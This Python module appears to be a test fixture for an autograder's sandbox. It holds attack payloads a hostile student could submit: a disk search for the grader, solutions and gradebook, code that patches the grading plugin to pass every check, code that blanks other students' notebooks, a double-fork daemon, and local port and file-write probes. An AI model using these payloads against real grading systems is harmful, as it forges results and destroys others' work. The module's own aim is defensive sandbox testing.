"""Answer cells that attack the grader from inside the student process (used by test_sandbox and the corpus).

Each is what a hostile student who knows this repository could submit. Inside the grading sandbox every one of
them finds nothing, reaches nothing and leaves nothing behind; run the tests with SANDBOX_UNDER_TEST=none to
see them succeed against an unsandboxed grader (which is why they are written to be undone by `git checkout`).
"""
from __future__ import annotations

import os
from pathlib import Path

DAEMON_TOKEN = "simclr-corpus-daemon-3f9c1a"
TAMPER_MARK = "# tampered by a student"

HUNT = '''
import os as _os, time as _time

_COURSE = {"autograder": "nbgrader_plugin.py", "reference": "loss.py", "source": "simclr", "submitted": None,
           "autograded": None, "gradebook.db": None}

def _hunt(limit_s=20.0):
    """Every part of the course on this machine's disk: the grader, the solutions, submissions, the gradebook."""
    found, stop = [], _time.monotonic() + limit_s
    skip = {"proc", "sys", "dev", "site-packages", "dist-packages", ".git", "cifar10-jpeg", "node_modules", "__pycache__"}
    for top, dirs, files in _os.walk("/"):
        if _time.monotonic() > stop:
            break
        dirs[:] = [d for d in dirs if d not in skip]
        for name in dirs + files:
            if name in _COURSE and (_COURSE[name] is None or _os.path.exists(_os.path.join(top, name, _COURSE[name]))):
                found.append(_os.path.join(top, name))
    return found
'''

# nt_xent returns how many course paths it found on the disk.
SEARCH_DISK = HUNT + '''
def nt_xent(z_i, z_j, temperature=0.5):
    return torch.tensor(float(len(_hunt())))
'''

# The grader's plugin made to pass every check, the helpers' loss op made to forge a perfect loss, and other
# students' notebooks overwritten: everything a search of the disk finds.
PAYLOAD_PLUGIN = f'''
{TAMPER_MARK}
_real_results = TrustedChecks._results
TrustedChecks._results = lambda self, nb, student: {{
    k: dict(v, passed=True, message="passed") for k, v in _real_results(self, nb, student).items()}}
'''
REWRITE_GRADER = HUNT + f'''
def _rewrite():
    changed = 0
    for path in _hunt():
        targets = [_os.path.join(path, "nbgrader_plugin.py"), _os.path.join(path, "simclr", "simclr_helpers", "checks.py"),
                   "/sandbox/simclr_helpers/checks.py"]
        for target in targets:
            try:
                with open(target, "a") as file:
                    file.write({PAYLOAD_PLUGIN!r} if target.endswith("plugin.py") else "\\n{TAMPER_MARK}\\n")
                changed += 1
            except OSError:
                pass
        if path.endswith("submitted"):
            for top, _dirs, files in _os.walk(path):
                for name in files:
                    if name.endswith(".ipynb") and "attacker" not in top:
                        try:
                            with open(_os.path.join(top, name), "w") as file:
                                file.write("{{}}")
                            changed += 1
                        except OSError:
                            pass
    return changed

_CHANGED = _rewrite()
'''

DAEMON = f'''
import os as _os, sys as _sys

def _start_daemon():
    """Double fork and setsid: a process that no longer belongs to the student process's group or session."""
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-S", "-c", "import time\\nwhile True: time.sleep(1)",
                                        "{DAEMON_TOKEN}"])
        _os._exit(0)
    _os.wait()

_start_daemon()
'''


def connect_to(port: int) -> str:
    """nt_xent returns 1 if it could open a TCP connection to 127.0.0.1:port (where the grader listens)."""
    return f'''
import socket

def nt_xent(z_i, z_j, temperature=0.5):
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
        return torch.tensor(1.0)
    except OSError:
        return torch.tensor(0.0)
'''


def write_to(paths: list[str]) -> str:
    """nt_xent returns how many of ``paths`` it could create."""
    return f'''
def nt_xent(z_i, z_j, temperature=0.5):
    written = 0
    for path in {paths!r}:
        try:
            with open(path, "w") as file:
                file.write("{TAMPER_MARK}")
            written += 1
        except OSError:
            pass
    return torch.tensor(float(written))
'''


def processes_with(token: str) -> list[int]:
    """PIDs (as this machine sees them) of processes whose command line holds ``token``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def sandbox_mode() -> str:
    """The sandbox the attack tests grade with: SANDBOX_UNDER_TEST=none shows each of them failing."""
    return os.environ.get("SANDBOX_UNDER_TEST", "bwrap")


COURSE_FILES = ("autograder", "reference", "source", "release", "tests", "bench", "nbgrader_config.py",
                "pyproject.toml", "README.md", "setup.sh")
CACHES = {"__pycache__", ".hypothesis", ".ipynb_checkpoints", ".pytest_cache"}


def tree_digest(root: Path, names: tuple[str, ...] = COURSE_FILES) -> dict[str, str]:
    """sha256 of every file of the course under ``root`` (caches left out): what an attack would change."""
    import hashlib
    digests = {}
    for name in names:
        top = root / name
        paths = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file()) if top.is_dir() else []
        for path in paths:
            if not CACHES & set(path.relative_to(root).parts):
                digests[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests
